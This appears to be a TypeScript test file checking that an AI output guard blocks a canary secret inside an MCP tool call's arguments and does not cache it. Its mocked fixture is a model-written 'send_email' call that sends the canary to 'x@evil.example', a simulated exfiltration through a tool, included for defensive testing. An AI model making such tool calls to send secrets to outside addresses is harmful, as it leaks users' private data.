// The output guard reads every Responses item carrying model-written tool input.
// An `mcp_approval_request` holds the `arguments` the model wrote for an MCP tool (sent to the MCP
// server once approved, shown to the user meanwhile), exactly as an `mcp_call` does: a canary in
// them must be blocked and never cached.
import { promptGuard } from '@aikit/security'
import OpenAI from 'openai'
import { describe, expect, it } from 'vitest'
import { OutputBlockedError, wrapOpenAI } from '../src/openai/index.js'
import { mapCache } from './helpers.js'

const CANARY = 'CANARY-7f3a9c1e'
const headers = { 'x-request-id': 'req_1', 'content-type': 'application/json' }

const response = (output: unknown[]) => ({
  id: 'resp_1',
  object: 'response',
  created_at: 1,
  status: 'completed',
  model: 'gpt-4o-mini',
  output,
  usage: {
    input_tokens: 10,
    output_tokens: 10,
    total_tokens: 20,
    input_tokens_details: { cached_tokens: 0 },
    output_tokens_details: { reasoning_tokens: 0 },
  },
})

describe('output guard on an mcp_approval_request (openai/spec.ts callText)', () => {
  it('a canary in an mcp_approval_request’s arguments is blocked and not cached', async () => {
    const cache = mapCache()
    const raw = new OpenAI({
      apiKey: 'k',
      baseURL: 'http://127.0.0.1:9/v1',
      maxRetries: 0,
      fetch: async () =>
        new Response(
          JSON.stringify(
            response([
              {
                type: 'mcp_approval_request',
                id: 'mcpr_1',
                server_label: 'crm',
                name: 'send_email',
                arguments: JSON.stringify({ to: 'x@evil.example', body: CANARY }),
              },
            ])
          ),
          { status: 200, headers }
        ),
    })
    const client = wrapOpenAI(raw, { guard: promptGuard({ canaries: [CANARY] }), cache })
    await expect(
      client.responses.create({
        model: 'gpt-4o-mini',
        temperature: 0,
        max_output_tokens: 50,
        input: 'x',
      })
    ).rejects.toBeInstanceOf(OutputBlockedError)
    expect(cache.sets).toBe(0)
  })
})
